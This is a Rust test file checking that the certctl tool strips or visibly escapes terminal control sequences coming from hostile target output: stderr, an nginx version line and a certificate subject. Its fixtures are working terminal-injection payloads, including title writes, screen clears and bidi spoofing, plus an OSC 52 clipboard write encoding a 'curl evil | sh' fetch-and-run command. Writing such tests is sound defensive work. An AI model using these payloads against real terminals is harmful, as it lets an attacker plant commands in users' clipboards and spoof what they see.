//! Terminal safety: text that comes from the target — a failing command's stderr, a server's
//! version line, a certificate's subject — may hold escape sequences (colours, OSC title or
//! clipboard writes, screen clears), carriage returns, bidi overrides and other controls.
//! certctl's stderr (plain and on a terminal) and its JSON report carry none of those raw:
//! they are dropped or shown as visible escapes.

use crate::support;

use std::fs;
use std::process::Command;

use support::faults::{InventorySpec, Rig, RigOptions, SNI, sh};
use support::pki::LeafOpts;

/// What a hostile target prints: SGR colour, an OSC title write, an OSC 52 clipboard write,
/// a screen clear, a bare CR that would overwrite the line, bidi overrides, a C1 CSI, a BEL, a
/// backspace and other C0 controls. (printf octal escapes; `\302\233` is U+009B in UTF-8.)
const PAYLOAD: &str = "injected: start \\033[31mRED\\033[0m \\033]0;pwned-title\\007 \
     \\033]52;c;Y3VybCBldmlsIHwgc2g=\\007 \\033[2J\\033[H cleared \
     safe-looking\\rOVERWRITTEN \\342\\200\\256txt.exe\\342\\200\\254 \\342\\201\\246iso\\342\\201\\251 \
     c1:\\302\\233 bel:\\007 bs:\\010 soh:\\001 del:\\177 lone-esc:\\033 end";

/// Characters that must never reach a terminal raw (besides `\n` and `\t`).
fn dangerous(c: char) -> bool {
    (c.is_control() && c != '\n' && c != '\t')
        || matches!(
            c,
            '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{200E}' | '\u{200F}' | '\u{061C}'
        )
}

fn assert_clean(what: &str, text: &str) {
    let bad: Vec<String> = text
        .chars()
        .filter(|c| dangerous(*c))
        .map(|c| format!("{:?}", c))
        .collect();
    assert!(bad.is_empty(), "{what} holds raw {bad:?}:\n{text:?}");
}

/// Every string value in a JSON document.
fn strings(value: &serde_json::Value, out: &mut Vec<String>) {
    match value {
        serde_json::Value::String(s) => out.push(s.clone()),
        serde_json::Value::Array(a) => a.iter().for_each(|v| strings(v, out)),
        serde_json::Value::Object(o) => o.values().for_each(|v| strings(v, out)),
        _ => {}
    }
}

/// A preview that prints the payload on stderr and fails.
fn hostile_preview(rig: &Rig) {
    rig.write_inventory(&InventorySpec {
        commands: vec![(
            "preview",
            vec![sh(&format!("printf '{PAYLOAD}\\n' >&2; exit 1"))],
        )],
        ..InventorySpec::default()
    });
}

#[test]
fn a_failing_commands_escape_sequences_are_neutralised_in_stderr_and_json() {
    let rig = Rig::start(RigOptions::default());
    hostile_preview(&rig);

    let human = rig.certctl(&["deploy"]);
    assert_eq!(human.code, 1, "{}", human.stderr);
    assert_clean("stderr (plain)", &human.stderr);
    assert!(human.stderr.contains("injected: start"), "{}", human.stderr);

    let verbose = rig.certctl(&["deploy", "-vvv"]);
    assert_clean("stderr at -vvv", &verbose.stderr);

    let out = rig.certctl(&["deploy", "--output", "json"]);
    assert_eq!(out.code, 1, "{}", out.stderr);
    assert_clean("stdout (JSON text)", &out.stdout);
    assert_clean("stderr alongside JSON", &out.stderr);
    let report = out.json();
    let mut texts = Vec::new();
    strings(&report, &mut texts);
    for t in &texts {
        assert_clean("a JSON string", t);
    }
    let error = report["targets"][0]["error"].as_str().unwrap();
    assert!(error.starts_with("preview failed"), "{error}");
    // What stays is readable: the words, and each lone control as a visible escape.
    for visible in [
        "injected: start",
        "RED",
        "end",
        "\\r",
        "\\x07",
        "\\x08",
        "\\x01",
        "\\x7f",
        "\\u{202e}",
        "\\u{9b}",
    ] {
        assert!(error.contains(visible), "{visible} in {error:?}");
    }
    // What the command printed (the error also quotes the command line, payload and all, as
    // inert text): the clipboard write and the title are gone whole, not half-printed.
    let printed = error.split_once("exited 1: ").unwrap().1;
    assert!(!printed.contains("Y3VybCBldmlsIHwgc2g="), "{printed:?}");
    assert!(!printed.contains("pwned-title"), "{printed:?}");
}

#[test]
fn a_terminal_sees_none_of_the_injected_sequences() {
    // Under a pseudo-terminal certctl draws its live view with its own escape codes; none of
    // the target's may come through.
    let rig = Rig::start(RigOptions::default());
    hostile_preview(&rig);
    let typescript = rig.dir().join("typescript");
    let command = format!(
        "{} deploy -i {}",
        env!("CARGO_BIN_EXE_certctl"),
        rig.inventory.display()
    );
    let status = Command::new("script")
        .args(["-q", "-e", "-c", &command])
        .arg(&typescript)
        .env("HOME", rig.dir())
        .env("TERM", "xterm-256color")
        .env_remove("NO_COLOR")
        .env_remove("SSH_AUTH_SOCK")
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .status()
        .unwrap();
    assert_eq!(status.code(), Some(1), "the deploy failed at preview");
    let bytes = fs::read(&typescript).unwrap();
    let text = String::from_utf8_lossy(&bytes);
    assert!(text.contains("injected: start"), "{text:?}");
    for (what, needle) in [
        ("OSC (title, clipboard)", "\u{1b}]"),
        ("screen clear", "\u{1b}[2J"),
        ("the payload's red", "\u{1b}[31mRED"),
        ("BEL", "\u{7}"),
        ("C1 CSI", "\u{9b}"),
        ("bidi override", "\u{202e}"),
        ("bidi isolate", "\u{2066}"),
        ("bare CR before the overwrite", "\rOVERWRITTEN"),
    ] {
        assert!(
            !text.contains(needle),
            "{what} reached the terminal: {text:?}"
        );
    }
}

/// Runs status and verify, plain and JSON; every output must be clean.
fn assert_outputs_clean(rig: &Rig) -> String {
    let mut json = String::new();
    for args in [
        &["status"][..],
        &["status", "--output", "json"],
        &["verify"],
        &["verify", "--output", "json"],
    ] {
        let out = rig.certctl(args);
        assert_clean(&format!("{args:?} stderr"), &out.stderr);
        assert_clean(&format!("{args:?} stdout"), &out.stdout);
        if args.contains(&"json") {
            let mut texts = Vec::new();
            strings(&out.json(), &mut texts);
            for t in &texts {
                assert_clean(&format!("{args:?} JSON string"), t);
            }
            json.push_str(&out.stdout);
        }
    }
    json
}

#[test]
fn a_hostile_version_line_from_the_target_is_neutralised() {
    let rig = Rig::start(RigOptions::default());
    // `nginx -v` answers with escapes, a screen clear and a bidi override.
    let fake_nginx = rig.dir().join("nginx-v");
    fs::write(
        &fake_nginx,
        "#!/bin/sh\n[ \"$1\" = -v ] && { printf 'nginx version: \\033]0;owned\\007nginx/9\\033[2J\\342\\200\\256\\n' >&2; exit 0; }\nexec nginx \"$@\"\n",
    )
    .unwrap();
    use std::os::unix::fs::PermissionsExt as _;
    fs::set_permissions(&fake_nginx, fs::Permissions::from_mode(0o755)).unwrap();
    rig.write_inventory(&InventorySpec {
        params: vec![("nginx".into(), fake_nginx.display().to_string())],
        ..InventorySpec::default()
    });
    let json = assert_outputs_clean(&rig);
    assert!(
        json.contains("nginx/9"),
        "the version line is shown: {json}"
    );
    assert!(
        !json.contains("owned"),
        "the title write is dropped: {json}"
    );
}

#[test]
fn a_hostile_certificate_subject_on_the_target_is_neutralised() {
    let rig = Rig::start(RigOptions::default());
    // The served (and live) certificate's subject holds escapes and a bidi override.
    let evil = rig.pki.issue(
        "evil",
        LeafOpts::new(&[SNI]).cn("evil\u{1b}]0;pwned\u{7}\u{202e}moc.elpmaxe\u{1b}[2J"),
    );
    rig.nginx.replace_certs(&evil.fullchain, &evil.key);
    assert!(rig.nginx.reload().status.success());
    let json = assert_outputs_clean(&rig);
    assert!(json.contains("moc.elpmaxe"), "the subject is shown: {json}");
}
